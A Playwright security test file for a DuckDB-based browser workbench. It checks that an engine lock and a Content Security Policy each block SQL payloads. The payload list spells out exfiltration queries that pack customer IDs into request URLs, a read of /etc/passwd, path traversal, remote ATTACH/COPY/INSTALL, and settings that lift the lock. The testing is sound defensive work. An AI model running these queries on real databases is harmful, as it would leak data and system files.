import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as bare } from '@playwright/test';
import { ENGINE_LOCK } from '../../src/lib/errors.ts';
import { expect, guardContext, test, WorkbenchPage, type Guard } from './fixtures.ts';
import { DIST_UNLOCKED, startPolicyOffHost } from './policy-off.ts';
import { PORT, SPEC_PORTS, UNLOCKED_URL } from './ports.ts';
import { DIST } from './static-server.ts';

/** This spec's own static hosts (ports.ts). */
const { noPolicy: NO_POLICY_PORT, nothing: NOTHING_PORT } = SPEC_PORTS;

/** A loopback server that only records what reaches it. */
async function startLogger(): Promise<{ server: Server; origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** Why the lock refuses a payload, as its message must say. */
const NETWORK_OR_DISK = /never reads from or sends to the network or your disk/;
const NO_EXTENSIONS = /loads no DuckDB extensions/;
const SETTINGS_LOCKED = /settings \(here \w+\) are locked/;

interface Payload {
  /** Unique, and part of every URL the payload names, so each request on the logger is traced to its payload. */
  id: string;
  /** `at` is the logger's address plus `/<id>`. */
  sql: (at: string) => string;
  /** What the locked build's refusal must say besides naming the lock. */
  locked: RegExp;
  /**
   * Whether the unlocked build sends a request for it. A statement that makes no request (a setting,
   * a local path) cannot show up on the logger, so its check is the refusal text alone.
   */
  requests: boolean;
  /** What the request must carry when the payload builds its URL from the customers' data. */
  carries?: RegExp;
}

/** Ways SQL from a user or a link could try to send data out, read the disk, or unlock the engine. */
const PAYLOADS: Payload[] = [
  { id: 'read-csv', sql: (at) => `SELECT * FROM read_csv('${at}/data.csv?d=secret')`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'read-text', sql: (at) => `SELECT * FROM read_text('${at}/text')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'exfil-variable',
    sql: (at) =>
      `SET VARIABLE u = (SELECT '${at}/exfil?d=' || string_agg(customer_id, ';') FROM (SELECT customer_id FROM orders LIMIT 5)); ` +
      `SELECT * FROM read_csv(getvariable('u'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
    carries: /\?d=C\d+;C\d+/,
  },
  {
    id: 'exfil-query',
    sql: (at) =>
      `SET VARIABLE q = (SELECT 'SELECT * FROM read_text(''${at}/q?d=' || min(customer_id) || ''')' FROM orders); ` +
      `SELECT * FROM query(getvariable('q'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
    carries: /\?d=C\d+/,
  },
  { id: 'read-blob', sql: (at) => `SELECT * FROM read_blob('${at}/blob')`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'glob', sql: (at) => `SELECT * FROM glob('${at}/*')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'cte',
    sql: (at) => `WITH t AS (SELECT * FROM read_csv('${at}/cte.csv')) SELECT count(*) FROM t`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  {
    id: 'in-subquery',
    sql: (at) => `SELECT count(*) FROM orders WHERE customer_id IN (SELECT a FROM read_csv('${at}/in.csv'))`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'replacement-scan', sql: (at) => `SELECT * FROM '${at}/table.csv'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'file-list', sql: (at) => `SELECT * FROM read_csv(['${at}/one.csv', '${at}/two.csv'])`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'union',
    sql: (at) => `SELECT * FROM read_text('${at}/a') UNION ALL SELECT * FROM read_text('${at}/b')`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'sniff', sql: (at) => `SELECT * FROM sniff_csv('${at}/sniff.csv')`, locked: NETWORK_OR_DISK, requests: true },
  {
    id: 'ctas',
    sql: (at) => `CREATE TEMP TABLE stolen AS SELECT * FROM read_csv('${at}/ctas.csv')`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  {
    id: 'copy-from',
    sql: (at) => `CREATE TEMP TABLE sink (a VARCHAR, b VARCHAR); COPY sink FROM '${at}/rows.csv' (HEADER)`,
    locked: NETWORK_OR_DISK,
    requests: true,
  },
  { id: 'attach', sql: (at) => `ATTACH '${at}/remote.duckdb' AS remote`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'copy-to', sql: (at) => `COPY (SELECT * FROM orders) TO '${at}/copy.csv'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'export-database', sql: (at) => `EXPORT DATABASE '${at}/dump'`, locked: NETWORK_OR_DISK, requests: true },
  { id: 'load-url', sql: (at) => `LOAD '${at}/x.duckdb_extension'`, locked: NO_EXTENSIONS, requests: true },
  // Functions in extensions: the unlocked build downloads the extension from the repository set before each payload.
  { id: 'read-json', sql: (at) => `SELECT * FROM read_json('${at}/data.json')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'read-ndjson', sql: (at) => `SELECT * FROM read_ndjson('${at}/data.ndjson')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'read-parquet', sql: (at) => `SELECT * FROM read_parquet('${at}/data.parquet')`, locked: NO_EXTENSIONS, requests: true },
  { id: 'parquet-metadata', sql: (at) => `SELECT * FROM parquet_metadata('${at}/meta.parquet')`, locked: NO_EXTENSIONS, requests: true },
  // Last of the extension payloads: DuckDB remembers where json was installed from, for every later load.
  { id: 'install-from', sql: (at) => `INSTALL json FROM '${at}/install'; LOAD json`, locked: NO_EXTENSIONS, requests: true },
  // No request: the disk, and the settings that would open the engine.
  // DuckDB takes an upper-case scheme for a local path, so it asks no server.
  {
    id: 'upper-scheme',
    sql: (at) => `SELECT * FROM read_csv('${at.replace('http:', 'HTTP:')}/upper.csv')`,
    locked: NETWORK_OR_DISK,
    requests: false,
  },
  { id: 'disk', sql: () => `SELECT * FROM read_text('/etc/passwd')`, locked: NETWORK_OR_DISK, requests: false },
  { id: 'traversal', sql: () => `SELECT * FROM read_csv('uploads/../etc/hosts')`, locked: NETWORK_OR_DISK, requests: false },
  { id: 'external-access', sql: () => `SET enable_external_access = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'global-external-access', sql: () => `SET GLOBAL enable_external_access = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'unlock', sql: () => `SET lock_configuration = false`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'reset-lock', sql: () => `RESET lock_configuration`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'repository', sql: (at) => `SET custom_extension_repository = '${at}/repo'`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'autoinstall', sql: () => `SET autoinstall_known_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'autoload', sql: () => `SET autoload_known_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  { id: 'community', sql: () => `SET allow_community_extensions = true`, locked: SETTINGS_LOCKED, requests: false },
  // Last: in the unlocked build it would narrow what the payloads after it may read.
  { id: 'allowed-directories', sql: (at) => `SET allowed_directories = ['${at}/']`, locked: SETTINGS_LOCKED, requests: false },
];

/** One build of the matrix: the engine lock and the page's policy, each on or off. */
interface Build {
  name: string;
  locked: boolean;
  policy: boolean;
  /** Where it is served: a preview server of the config, or a host this test starts. */
  serve: () => Promise<{ url: string; stop?: () => Promise<void> }>;
}

/**
 * Each barrier alone must stop every payload: the lock refuses the SQL, the policy stops the worker's request.
 * The policy-off builds are the same builds served with the policy taken out of index.html (policy-off.ts).
 */
const BUILDS: Build[] = [
  { name: 'lock on + policy on (production)', locked: true, policy: true, serve: async () => ({ url: `http://127.0.0.1:${PORT}/` }) },
  { name: 'lock off + policy on', locked: false, policy: true, serve: async () => ({ url: UNLOCKED_URL }) },
  { name: 'lock on + policy off', locked: true, policy: false, serve: () => startPolicyOffHost(NO_POLICY_PORT, DIST) },
  { name: 'lock off + policy off', locked: false, policy: false, serve: () => startPolicyOffHost(NOTHING_PORT, DIST_UNLOCKED) },
];

/** Where a request can be made from by script: the page, the app's worker, DuckDB's worker (by their names). */
const PLACES = ['page', 'duckdb', 'duckdb-engine'] as const;

/** Takes the guard's reports of policy violations naming a URL out of its list (they were expected), returning them. */
function takeViolations(guard: Guard, url: string): string[] {
  const expected = (p: string) => p.startsWith('CSP violation') && p.includes(url);
  const taken = guard.problems.filter(expected);
  guard.problems.splice(0, guard.problems.length, ...guard.problems.filter((p) => !expected(p)));
  return taken;
}

for (const build of BUILDS) {
  const blocked = build.locked || build.policy;
  test(`${build.name}: ${blocked ? 'no payload reaches' : 'every network payload reaches'} the loopback logger`, async ({
    page,
    guard,
  }) => {
    const logger = await startLogger();
    const served = await build.serve();
    guard.allow(served.url);
    // Allowed so the policy, not the guard, is what is tested; each violation the policy reports is checked below.
    guard.allow(logger.origin);
    const hitsOf = (id: string) => logger.hits.filter((h) => h.split(' ')[1].startsWith(`/${id}/`));
    const violationsOf = (at: string) => takeViolations(guard, `${at}/`);
    try {
      const app = new WorkbenchPage(page);
      await page.goto(`${served.url}?sample=retail-v1`);
      const engine = page.getByRole('status', { name: 'Database engine' });
      if (build.locked) await app.loaded();
      else await expect(engine).toContainText('UNLOCKED TEST BUILD', { timeout: 90_000 });
      await app.loaded();
      if (build.locked) await expect(engine).not.toContainText('UNLOCKED');
      expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').count(), 'the page carries the policy').toBe(
        build.policy ? 1 : 0,
      );
      await app.section('Data');
      await expect(app.report).toBeVisible();

      for (const payload of PAYLOADS) {
        const at = `${logger.origin}/${payload.id}`;
        // An extension this payload needs is fetched from the logger (the default repository is another host).
        if (!build.locked)
          await expect((await app.sql(`SET custom_extension_repository = '${at}/repository'`)).getByRole('alert')).toHaveCount(0);
        const sql = payload.sql(at);
        const result = await app.sql(sql);
        const error = result.getByRole('alert', { name: 'Query error' });
        if (build.locked) {
          await expect(error, sql).toContainText(`${ENGINE_LOCK}: `);
          await expect(error, sql).toContainText(payload.locked);
        } else {
          await expect(error.filter({ hasText: ENGINE_LOCK }), payload.id).toHaveCount(0);
        }
        if (payload.requests && !blocked) {
          await expect.poll(() => hitsOf(payload.id).length, { message: payload.id, timeout: 30_000 }).toBeGreaterThan(0);
          if (payload.carries) expect(hitsOf(payload.id).join(' ')).toMatch(payload.carries);
        } else if (payload.requests && !build.locked) {
          // The policy alone: DuckDB's worker tried, and its policy stopped the request.
          expect(hitsOf(payload.id), payload.id).toEqual([]);
          await expect.poll(() => violationsOf(at).length, { message: `${payload.id}: a violation in the worker` }).toBeGreaterThan(0);
        }
        const shown = build.locked ? 'refused' : (await error.count()) ? (await error.innerText()).split('\n')[0] : 'ran';
        console.log(`privacy: ${build.name}: ${payload.id}: ${hitsOf(payload.id).length} requests (${shown})`);
      }
      // Still usable afterwards.
      expect(Number((await app.sqlColumn('SELECT count(*) FROM orders'))[0])).toBeGreaterThan(0);
      const sqlHits = logger.hits.length;

      // Script itself in each place: only the policy stands in its way (the lock is DuckDB's).
      const workers = page.workers();
      const names = await Promise.all(workers.map((w) => w.evaluate(() => (self as unknown as { name: string }).name)));
      expect([...names].sort(), "the app's worker and DuckDB's").toEqual(['duckdb', 'duckdb-engine']);
      const fetchFrom = (url: string) =>
        fetch(url).then(
          () => 'reached',
          (e: Error) => `blocked: ${e.message}`,
        );
      for (const place of PLACES) {
        const at = `${logger.origin}/fetch-${place}`;
        const outcome =
          place === 'page' ? await page.evaluate(fetchFrom, `${at}/x`) : await workers[names.indexOf(place)].evaluate(fetchFrom, `${at}/x`);
        expect(outcome, place).toBe(build.policy ? 'blocked: Failed to fetch' : 'reached');
        expect(hitsOf(`fetch-${place}`), place).toHaveLength(build.policy ? 0 : 1);
        if (build.policy) await expect.poll(() => violationsOf(at).length, { message: `${place}: a violation` }).toBeGreaterThan(0);
      }

      // A report can come twice (the violation event, and Chromium's console line for it): the late ones too were expected.
      if (build.policy) takeViolations(guard, `${logger.origin}/`);
      const network = PAYLOADS.filter((p) => p.requests);
      if (blocked) expect(logger.hits.slice(0, sqlHits)).toEqual([]);
      else expect(network.filter((p) => hitsOf(p.id).length === 0).map((p) => p.id)).toEqual([]);
      console.log(
        `privacy matrix: ${build.name}: ${sqlHits} requests reached the logger from ${network.length} network payloads ` +
          `(${PAYLOADS.length} payloads in all); a fetch of the page's, the app worker's and DuckDB worker's own: ` +
          `${logger.hits.length - sqlHits} of 3 reached it`,
      );
    } finally {
      logger.server.close();
      await served.stop?.();
    }
  });
}

bare('the guard sees a page error, a CSP violation and a foreign request on any page, popup or worker', async ({ browser, baseURL }) => {
  const context = await browser.newContext({ baseURL });
  try {
    const guard = await guardContext(context, new URL(baseURL!).origin);
    const nowhere = 'http://127.0.0.1:9';
    // The app's page, with its CSP: a blocked fetch, and an error no one catches.
    const app = await context.newPage();
    await app.goto('./');
    await app.evaluate((url) => void fetch(`${url}/csp-page`).catch(() => undefined), nowhere);
    await app.evaluate(() =>
      setTimeout(() => {
        throw new Error('uncaught on the app page');
      }),
    );
    // A worker under the app's CSP: its violation happens where no init script runs. It fetches when told to,
    // after the guard's listener went in as it started (a worker's own first statements run before any listener).
    const started = app.waitForEvent('worker');
    await app.evaluate(() => {
      const code = 'onmessage = (e) => void fetch(e.data).catch(() => undefined)';
      (window as unknown as { testWorker: Worker }).testWorker = new Worker(
        URL.createObjectURL(new Blob([code], { type: 'text/javascript' })),
      );
    });
    await (await started).evaluate(() => 'listening');
    await app.evaluate((url) => (window as unknown as { testWorker: Worker }).testWorker.postMessage(`${url}/csp-worker`), nowhere);
    // A page without CSP, opened by the test, and a popup it opens: their requests and a worker's.
    const other = await context.newPage();
    await other.goto('./favicon.svg');
    await other.evaluate((url) => void fetch(`${url}/other-page`).catch(() => undefined), nowhere);
    const popup = context.waitForEvent('page');
    await other.evaluate(() => void window.open('./favicon.svg?popup'));
    await (await popup).evaluate((url) => void fetch(`${url}/popup`).catch(() => undefined), nowhere);
    await other.evaluate((url) => {
      const code = `fetch('${url}/worker').catch(() => undefined)`;
      new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    }, nowhere);
    const expected = [
      /CSP violation: connect-src http:\/\/127\.0\.0\.1:9\/csp-page/,
      /page error on .*: uncaught on the app page/,
      /CSP violation \(console\): .*csp-worker/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/other-page/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/popup/,
      /request to another origin: http:\/\/127\.0\.0\.1:9\/worker/,
    ];
    for (const pattern of expected) {
      await expect
        .poll(() => guard.problems.some((p) => pattern.test(p)), { message: `${pattern} in ${guard.problems.join('\n')}` })
        .toBe(true);
    }
    console.log(`privacy: the guard saw ${guard.problems.length} problems:\n  ${guard.problems.join('\n  ')}`);
  } finally {
    await context.close();
  }
});
